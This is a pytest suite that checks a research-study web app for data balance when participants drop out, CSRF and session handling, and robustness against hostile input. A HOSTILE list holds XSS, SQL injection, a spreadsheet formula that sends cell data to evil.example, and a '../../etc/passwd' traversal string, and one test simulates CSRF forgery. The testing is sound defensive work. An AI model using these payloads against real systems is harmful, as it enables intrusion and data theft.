"""The study stays a sound experiment when people leave, and its server holds up to what an outsider sends:
every test here runs against a real server on 127.0.0.1 (in a thread of the test process)."""

from __future__ import annotations

import io
import random
import time
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import httpx
import pandas as pd
import pytest

from brainbench.data import Dataset
from brainbench.study import StudyStore, create_app
from brainbench.study.templates import DEFAULT_CONSENT
from tests.study.flows import AUTH, PROFILE, TOKEN, answer, consent, csrf_of, hidden, live, start

pytestmark = pytest.mark.slow
SECURITY_HEADERS = ("content-security-policy", "x-content-type-options", "x-frame-options", "cache-control")


class Clock:
    """The app's clock, moved by the test."""

    def __init__(self) -> None:
        self.now = time.time()

    def __call__(self) -> float:
        return self.now


@pytest.fixture()
def clock() -> Clock:
    return Clock()


@pytest.fixture()
def server(store: StudyStore, clock: Clock) -> Iterator[str]:
    with live(create_app(store, TOKEN, clock=clock)) as url:
        yield url


def has_security_headers(response: httpx.Response) -> bool:
    return all(name in response.headers for name in SECURITY_HEADERS)


@pytest.mark.parametrize(("study_db", "n_participants"), [("sqlite", 120), ("postgresql", 40)], indirect=["study_db"])
def test_drop_outs_leave_every_item_within_one_response(
    human: Dataset, study_db: str, n_participants: int, clock: Clock
) -> None:
    """120 participants (40 on PostgreSQL), 30% of whom leave: about half after consenting, the others after one
    trial with the second on screen.
    Items handed out at consent were never given back (1 to 6 responses per item, 11 items with 1)."""
    store = StudyStore(study_db, human, trials_per_participant=3, seed=3, hold_s=600)
    rng = random.Random(5)
    leavers = set(rng.sample(range(n_participants), n_participants * 3 // 10))
    with live(create_app(store, TOKEN, clock=clock)) as url:
        for number in range(n_participants):
            clock.now += 30
            with httpx.Client(base_url=url, timeout=60) as client:
                if number in leavers and number % 2:
                    consent(client)  # consents, then closes the tab
                    continue
                csrf = start(client)
                for _ in range(1 if number in leavers else 3):
                    clock.now += 10
                    assert answer(client, csrf).status_code == 303
                if number in leavers:
                    client.get("/trial")  # the second trial on screen, never answered
        clock.now += 601  # the last leavers' holds lapse
        with httpx.Client(base_url=url, timeout=60) as client:
            exported = client.get("/admin/export/participant_data.csv", headers=AUTH).text
            admin_page = client.get("/admin", headers=AUTH).text
    counts = pd.read_csv(io.StringIO(exported))["abstract_id"].value_counts().reindex(range(1, 201), fill_value=0)
    halfway = sum(1 for number in leavers if number % 2 == 0)
    finished = n_participants - len(leavers)
    assert counts.sum() == finished * 3 + halfway and counts.max() - counts.min() <= 1, counts.value_counts()
    histogram = counts.value_counts().sort_index()
    expected = "; ".join(f"{items} items with {n} response{'' if n == 1 else 's'}" for n, items in histogram.items())
    assert f"<td>{expected}</td>" in admin_page  # the balance, on the admin page
    assert "<th>on screen now</th><td>0 trials" in admin_page


def test_consenting_again_keeps_the_participant(server: str, store: StudyStore) -> None:
    with httpx.Client(base_url=server, timeout=60) as client:
        anonymous = csrf_of(client.get("/").text)
        csrf = start(client)
        assert answer(client, csrf).status_code == 303
        cookie = client.cookies["bb_participant"]
        again = client.post("/consent", data={"csrf": anonymous, "agree": "yes"})  # a second tab, the back button
        assert again.status_code == 303 and again.headers["location"] == "/trial"
        assert client.cookies["bb_participant"] == cookie and "Trial 2 of 2" in client.get("/trial").text
    assert store.progress().participants == 1


@pytest.mark.parametrize(
    ("path", "field"),
    [("/trial", "position"), ("/trial", "item_id"), ("/trial/leave", "view_id"), ("/admin/setup", "trials")],
)
def test_integers_beyond_64_bits_are_a_422_with_a_hint(server: str, path: str, field: str) -> None:
    with httpx.Client(base_url=server, timeout=60) as client:
        csrf = start(client)
        page = client.get("/trial").text
        fields = {
            "csrf": csrf,
            "position": hidden(page, "position"),
            "item_id": hidden(page, "item_id"),
            "view_id": hidden(page, "view_id"),
            "choice": "A",
            "confidence": "50",
            "expertise": "50",
            "trials": "3",
            field: str(2**64),
        }
        response = client.post(path, data=fields, headers=AUTH if path.startswith("/admin") else {})
    assert response.status_code == 422 and response.headers["content-type"].startswith("text/html")
    assert has_security_headers(response)
    assert "reload the page" in response.text or "less than or equal to" in response.text


def test_an_unexpected_error_is_a_500_page_with_the_security_headers(
    server: str, store: StudyStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(clock: float | None = None) -> None:
        raise OverflowError("Python int too large to convert to SQLite INTEGER")

    monkeypatch.setattr(store, "progress", broken)
    response = httpx.get(f"{server}/admin", headers=AUTH, timeout=60)
    assert response.status_code == 500 and response.headers["content-type"].startswith("text/html")
    assert has_security_headers(response) and "Something went wrong on the server" in response.text


def test_csrf_tokens_are_bound_to_the_session(server: str) -> None:
    with httpx.Client(base_url=server, timeout=60) as attacker, httpx.Client(base_url=server, timeout=60) as victim:
        attackers_csrf = start(attacker)
        attacker.get("/trial")
        start(victim)
        victims_page = victim.get("/trial").text
        # the attacker's cookie/form pair planted in the victim's browser (e.g. from a sibling subdomain)
        planted = {name: value for name, value in attacker.cookies.items() if name != "bb_participant"}
        cookies = {**planted, "bb_participant": victim.cookies["bb_participant"]}
        forged = {
            "csrf": attackers_csrf,
            "position": hidden(victims_page, "position"),
            "item_id": hidden(victims_page, "item_id"),
            "choice": "B",
            "confidence": "0",
            "expertise": "0",
        }
        header = {"Cookie": "; ".join(f"{name}={value}" for name, value in cookies.items())}
        assert httpx.post(f"{server}/trial", data=forged, headers=header, timeout=60).status_code == 403
        assert victim.post("/trial", data={**forged, "csrf": csrf_of(victims_page)}).status_code == 303
        assert attacker.post("/trial/leave", data={"csrf": csrf_of(victims_page), "view_id": "1"}).status_code == 403


def test_the_study_and_authoring_apps_on_one_host_keep_their_cookies_apart(server: str, tmp_path: Path) -> None:
    from brainbench.authoring import ReviewQueue
    from brainbench.authoring.app import create_app as authoring_app

    queue = ReviewQueue(tmp_path / "queue.sqlite")
    token = queue.add_reviewer("Ana")
    with live(authoring_app(queue, [])) as authoring, httpx.Client(timeout=60) as browser:
        study_csrf = csrf_of(browser.get(f"{server}/").text)  # cookies are per host: both apps see all of them
        authoring_csrf = csrf_of(browser.get(f"{authoring}/").text)
        assert browser.post(f"{authoring}/login", data={"csrf": authoring_csrf, "token": token}).status_code == 303
        assert browser.post(f"{server}/consent", data={"csrf": study_csrf, "agree": "yes"}).status_code == 303
        assert {"bb_study_sid", "bb_author_sid", "bb_author", "bb_participant"} <= set(browser.cookies.keys())


def test_admin_sessions_expire_and_sign_out(server: str, clock: Clock) -> None:
    with httpx.Client(base_url=server, timeout=60) as admin:
        csrf = csrf_of(admin.get("/").text)
        assert admin.post("/admin/login", data={"csrf": csrf, "token": TOKEN}).status_code == 303
        session = admin.cookies["bb_admin"]
        assert "Study admin" in admin.get("/admin").text and 'action="/admin/logout"' in admin.get("/admin").text
        signed_out = admin.post("/admin/logout", data={"csrf": csrf_of(admin.get("/admin").text)})
        assert signed_out.status_code == 303 and "bb_admin" not in admin.cookies
        replayed = {"Cookie": f"bb_admin={session}"}  # the old cookie, replayed (a copy kept elsewhere)
        assert httpx.get(f"{server}/admin", headers=replayed, timeout=60).status_code == 401
        assert httpx.get(f"{server}/admin/export/catch.csv", headers=replayed, timeout=60).status_code == 401
        clock.now += 1
        assert admin.post("/admin/login", data={"csrf": csrf, "token": TOKEN}).status_code == 303
        assert admin.get("/admin").status_code == 200
        clock.now += 8 * 3600 + 1  # a working day later
        assert admin.get("/admin").status_code == 401


def test_a_late_leave_beacon_cannot_make_rt_exceed_rt_total(server: str, clock: Clock) -> None:
    with httpx.Client(base_url=server, timeout=60) as client:
        csrf = start(client)
        first_view = hidden(client.get("/trial").text, "view_id")
        clock.now += 3
        page = client.get("/trial").text  # reloaded: the second view starts before the first one's beacon arrives
        clock.now += 2
        assert client.post("/trial/leave", data={"csrf": csrf, "view_id": first_view}).status_code == 204
        clock.now += 4
        fields = {"position": hidden(page, "position"), "item_id": hidden(page, "item_id"), "choice": "A"}
        answered = client.post("/trial", data={"csrf": csrf, **fields, "confidence": "5", "expertise": "5"})
        assert answered.status_code == 303
        exported = pd.read_csv(io.StringIO(client.get("/admin/export/participant_data.csv", headers=AUTH).text))
    # the first view counts until the second began (3 s), not until its beacon came (5 s)
    assert list(exported["rt"]) == [9000] and list(exported["rt_total"]) == [9000]


def test_the_admin_page_warns_of_a_weak_token_and_an_unfilled_consent(store: StudyStore) -> None:
    filled = "## Memory study\n\nIt takes 20 minutes. Questions: lab@example.org\n"
    half = DEFAULT_CONSENT.replace("[Fill in: how many]", "15")
    for token, consent_text, weak, unfilled in (
        ("changeme", filled, True, False),
        ("a-long-random-admin-token-9f2c", half, False, True),
    ):
        with live(create_app(store, token, consent=consent_text)) as url:
            page = httpx.get(f"{url}/admin", headers={"Authorization": f"Bearer {token}"}, timeout=60).text
        assert ("The admin token is weak" in page) == weak and ("still holds" in page) == unfilled


def test_an_empty_admin_token_is_refused(store: StudyStore) -> None:
    from brainbench.study import StudyError

    with pytest.raises(StudyError, match="the admin token is empty"):
        create_app(store, "")


def test_both_apps_serve_a_favicon(server: str, tmp_path: Path) -> None:
    from brainbench.authoring import ReviewQueue
    from brainbench.authoring.app import create_app as authoring_app

    with live(authoring_app(ReviewQueue(tmp_path / "queue.sqlite"), [])) as authoring:
        for url in (server, authoring):
            for name in ("favicon.ico", "favicon.svg"):
                response = httpx.get(f"{url}/{name}", timeout=60)
                assert response.status_code == 200 and response.headers["content-type"] == "image/svg+xml"
                assert has_security_headers(response)
            assert '<link rel="icon" href="/favicon.svg"' in httpx.get(f"{url}/", timeout=60).text


HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'; DROP TABLE responses; --",
    "1 OR 1=1",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "é\u202e\u200b\x00\x07",
    str(2**64),
    str(-(2**64)),
    "-1",
    "1e309",
    "../../etc/passwd",
]
TEN_MB = "x" * 10_000_000


def test_no_request_of_the_attack_set_gets_a_5xx(server: str, tmp_path: Path) -> None:
    """Forged and non-ASCII tokens, forged CSRF, XSS, SQL and formula injection, 10 MB bodies, numbers beyond
    64 bits, broken UTF-8, odd cookies, in every field of both apps: refused or stored as text, never a server
    error, and every answer with the security headers."""
    from brainbench.authoring import ReviewQueue
    from brainbench.authoring.app import create_app as authoring_app

    queue = ReviewQueue(tmp_path / "queue.sqlite")
    token = queue.add_reviewer("Ana")
    candidate = {"doi": "10.1/x", "journal": "J", "subfield": "Sleep", "text": "Sleep helps. We found more."}
    responses: list[httpx.Response] = []
    with live(authoring_app(queue, [candidate])) as authoring:
        study, writer = httpx.Client(base_url=server, timeout=120), httpx.Client(base_url=authoring, timeout=120)
        csrf = start(study)
        study.get("/trial")
        writer.post("/login", data={"csrf": csrf_of(writer.get("/").text), "token": token})
        author_csrf = csrf_of(writer.get("/").text)
        queue.add(candidate, candidate["text"].replace("more", "less"), {"model": "m"}, [])
        trial_fields = ("position", "item_id", "choice", "confidence", "expertise", "blurs", "layout")
        for value in HOSTILE:
            in_header = value.encode("utf-8").replace(b"\x00", b"").replace(b"\x07", b"")
            responses += [
                study.post("/consent", data={"csrf": value, "agree": value}),
                study.post("/profile", data={"csrf": csrf, **dict.fromkeys(PROFILE, value)}),
                study.post("/profile", data={"csrf": csrf, **PROFILE, "country": value}),
                study.post("/trial", data={"csrf": csrf, **dict.fromkeys(trial_fields, value)}),
                study.post("/trial/leave", data={"csrf": csrf, "view_id": value}),
                study.post("/admin/login", data={"csrf": value, "token": value}),
                study.get("/admin", headers={"Authorization": b"Bearer " + in_header}),
                httpx.get(f"{server}/trial", headers={"Cookie": b"bb_participant=" + in_header}),
                study.post("/admin/setup", data={"csrf": csrf, "trials": value}, headers=AUTH),
                writer.post("/login", data={"csrf": author_csrf, "token": value}),
                writer.post("/write/0", data={"csrf": author_csrf, "altered": value, "subfield": value}),
                writer.post(
                    "/write/0",
                    data={
                        "csrf": author_csrf,
                        "altered": candidate["text"],
                        "subfield": "__new",
                        "new_subfield": value,
                    },
                ),
                writer.post("/graded/0", data={"csrf": author_csrf, "number": value, "values": value, "unit": value}),
                writer.post(
                    "/review/1", data={"csrf": author_csrf, "decision": "rejected", "expected": value, "note": value}
                ),
                writer.post("/review/1", data={"csrf": author_csrf, "decision": value, "expected": "proposed"}),
                writer.get(f"/write/{quote(value, safe='')}"),
                writer.post(f"/review/{quote(value, safe='')}", data={"csrf": author_csrf}),
                httpx.get(f"{authoring}/", headers={"Cookie": b"bb_author=" + in_header}),
            ]
        broken_utf8 = b"csrf=" + csrf.encode() + b"&age=\xff\xfe&country=\xed\xa0\x80"
        form = {"Content-Type": "application/x-www-form-urlencoded"}
        responses += [
            study.post("/profile", content=broken_utf8, headers=form),
            study.post("/consent", data={"csrf": TEN_MB, "agree": "yes"}),
            study.post("/profile", data={"csrf": csrf, **PROFILE, "country": TEN_MB}),
            study.post("/trial", data={"csrf": csrf, "layout": TEN_MB}),
            study.post("/admin/login", data={"csrf": csrf, "token": TEN_MB}),
            writer.post("/login", data={"csrf": author_csrf, "token": TEN_MB}),
            writer.post("/write/0", data={"csrf": author_csrf, "altered": TEN_MB, "subfield": "Sleep"}),
            writer.post(
                "/review/1", data={"csrf": author_csrf, "decision": "rejected", "expected": "x", "note": TEN_MB}
            ),
        ]
        study.close()
        writer.close()
    assert all(response.status_code < 500 for response in responses), [
        (response.request.url.path, response.status_code) for response in responses if response.status_code >= 500
    ]
    assert all(has_security_headers(response) for response in responses)
    assert {response.status_code for response in responses} >= {401, 403, 404, 422}
